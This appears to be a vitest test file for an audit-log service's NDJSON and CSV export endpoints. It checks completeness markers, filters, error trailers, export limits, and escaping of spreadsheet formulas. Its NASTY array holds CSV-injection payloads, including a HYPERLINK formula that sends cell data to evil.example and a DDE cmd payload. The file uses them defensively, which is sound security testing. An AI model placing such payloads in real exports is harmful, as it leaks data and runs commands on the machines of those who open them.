/** Exports: whole or recognisably not, bounded, and nothing in a cell that a spreadsheet runs. */
import { request } from 'node:http';
import { describe, expect, it } from 'vitest';
import { LogError } from '../../src/log/types.ts';
import { ask, type TestServer, testEvent, withServer } from '../support/http.ts';
import { until } from '../support/test-log.ts';

const NASTY = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '  =1+1',
  '"quoted", and, commas',
  'line one\r\nline two\n{"index":0,"forged":true}',
  '\u202ereversed\u0007',
  'plain',
];

async function fill(server: TestServer, count: number): Promise<void> {
  const lines = Array.from({ length: count }, (_, i) =>
    JSON.stringify(
      testEvent(`x${i}`, {
        tenant: i % 2 === 0 ? 'acme' : 'other',
        reason: NASTY[i % NASTY.length],
        ...(i % 5 === 0 ? { break_glass: true } : {}),
        changes: [{ path: '/roles', before: ['a'], after: ['a', 'b'] }],
      }),
    ),
  );
  const answer = await ask(server, '/test/events', {
    token: server.producer,
    body: lines.join('\n'),
    headers: { 'content-type': 'application/x-ndjson' },
  });
  expect(answer.text.match(/"accepted"/g)).toHaveLength(count);
}

/** RFC 4180, as a spreadsheet reads it. */
function parseCsv(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
  for (let row: string[] = []; cell.lastIndex < text.length; ) {
    const match = cell.exec(text);
    if (match === null) throw new Error('not CSV');
    row.push((match[1] ?? match[2] ?? '').replaceAll('""', '"'));
    if (match[3] === '\r\n') {
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

describe('export.ndjson', () => {
  it('gives every event as it was sent, one a line, and says at the end that it is complete', () =>
    withServer(async (server) => {
      await fill(server, 300);
      const answer = await ask(server, '/test/export.ndjson', { token: server.auditor });
      expect([answer.status, answer.headers.get('content-type')]).toEqual([200, 'application/x-ndjson']);
      expect(answer.headers.get('content-disposition')).toBe('attachment; filename="test-300.ndjson"');
      expect(answer.headers.get('countersign-read-entry')).toBe('300');
      const lines: readonly Record<string, unknown>[] = answer.text
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line));
      expect(lines).toHaveLength(301);
      expect(lines[300]).toEqual({ complete: true, count: 300, size: 300 });
      expect(lines[5]).toEqual({
        index: 5,
        log_time: '2026-01-08T14:32:07.000005Z',
        producer: server.tokens.list()[0]?.id,
        leaf_hash: expect.any(String),
        break_glass: true,
        event: {
          ...testEvent('x5', { tenant: 'other', reason: NASTY[5], break_glass: true }),
          changes: [{ path: '/roles', before: ['a'], after: ['a', 'b'] }],
        },
      });
    }));

  it('takes the same questions as a search, and the same refusals', () =>
    withServer(async (server) => {
      await fill(server, 20);
      const count = async (query: string): Promise<unknown> => {
        const { text } = await ask(server, `/test/export.ndjson?${query}`, { token: server.auditor });
        return JSON.parse(text.trimEnd().split('\n').at(-1) ?? '').count;
      };
      expect(await count('tenant=acme')).toBe(10);
      expect(await count('q=breakglass:true+tenant:acme')).toBe(2);
      expect(await count('from=2026-01-08T14:32:07.000010Z&to=2026-01-08T14:32:07.000013Z')).toBe(3);
      expect(await count('from=2026-01-09')).toBe(0);
      for (const [query, type] of [
        ['actr=x', 'unknown-parameter'],
        ['limit=5', 'unknown-parameter'],
        ['openings=yes', 'invalid-parameter'],
        ['q=role', 'invalid-query'],
      ]) {
        const answer = await ask(server, `/test/export.ndjson?${query}`, { token: server.auditor });
        expect([answer.status, answer.json()['type']]).toEqual([400, `urn:countersign:problem:${type}`]);
      }
    }));

  it('ends in a line that says what went wrong when a stored event cannot be served', () =>
    withServer(async (server) => {
      await fill(server, 300);
      const { eventsAt } = server.log;
      Object.assign(server.log, {
        eventsAt: (indices: readonly number[]) => {
          if (indices.includes(200)) throw new LogError('corrupt-data', 'event 200 was altered', { index: 200 });
          return eventsAt(indices);
        },
      });
      for (const [form, end] of [
        ['ndjson', '{"complete":false,"count":128,"size":300,"failure":"corrupt-data"}\n'],
        ['csv', '"#incomplete",128,301,"corrupt-data",,,,,,,,,,,,,,,,,,,,,,,,\r\n'],
      ] as const) {
        const { status, text } = await ask(server, `/test/export.${form}`, { token: server.auditor });
        expect(status).toBe(200);
        expect(text.endsWith(end), text.slice(-200)).toBe(true);
      }
      expect(server.logged).toHaveLength(2);
    }));
});

describe('export.csv', () => {
  it('is one row an event whatever the text holds, and no cell begins a formula', () =>
    withServer(async (server) => {
      await fill(server, 20);
      const { status, headers, text } = await ask(server, '/test/export.csv?tenant=acme', { token: server.auditor });
      expect([status, headers.get('content-type')]).toEqual([200, 'text/csv; charset=utf-8; header=present']);
      const [names = [], ...rows] = parseCsv(text);
      const end = rows.pop();
      expect(rows).toHaveLength(10);
      expect(end?.slice(0, 4)).toEqual(['#complete', '10', '20', '']);
      for (const row of [names, ...rows, end ?? []]) {
        expect(row).toHaveLength(names.length);
        for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@]/);
      }
      expect(text.split('\r\n')).toHaveLength(13);
      expect(text).not.toMatch(/(?![\r\n])\p{Cc}|\u202e/u);
      const column = (name: string) => rows.map((row) => row[names.indexOf(name)]);
      expect(column('index')).toEqual(['0', '2', '4', '6', '8', '10', '12', '14', '16', '18']);
      expect(column('break_glass').filter((cell) => cell === 'true')).toHaveLength(2);
      expect(column('reason')[0]).toBe(`'${NASTY[0]}`);
      expect(column('changes')[0]).toBe('[{"after":["a","b"],"before":["a"],"path":"/roles"}]');
    }));
});

describe('an export', () => {
  it('is refused beyond the number that is made at once, and its place is free again when the client goes away', () =>
    withServer(
      async (server) => {
        await fill(server, 2_000);
        // A client that takes the head of the answer and nothing else: its buffers fill, and the export waits for it.
        const leave = await openExport(server);
        const second = await ask(server, '/test/export.csv', { token: server.auditor });
        expect([second.status, second.json()['type']]).toEqual([503, 'urn:countersign:problem:too-many-exports']);
        expect(second.headers.get('retry-after')).toBe('1');
        leave();
        await until(async () => (await ask(server, '/test/export.csv', { token: server.auditor })).status === 200);
      },
      { app: { limits: { maxExports: 1 } } },
    ));

  it('is cut off when its client takes nothing for too long', () =>
    withServer(
      async (server) => {
        await fill(server, 2_000);
        await openExport(server);
        await until(async () => (await ask(server, '/test/export.csv', { token: server.auditor })).status === 200);
      },
      { app: { limits: { maxExports: 1, exportStallMs: 20 } } },
    ));
});

/** Begins an export and reads nothing of it; returns how to go away. */
function openExport(server: TestServer): Promise<() => void> {
  return new Promise((resolve, reject) => {
    const path = '/test/export.ndjson?openings=true';
    const headers = { authorization: `Bearer ${server.auditor}` };
    const sent = request({ host: server.host, port: server.port, path, headers }, (response) => {
      response.pause();
      resolve(() => response.destroy());
    });
    sent.on('error', reject);
    sent.end();
  });
}
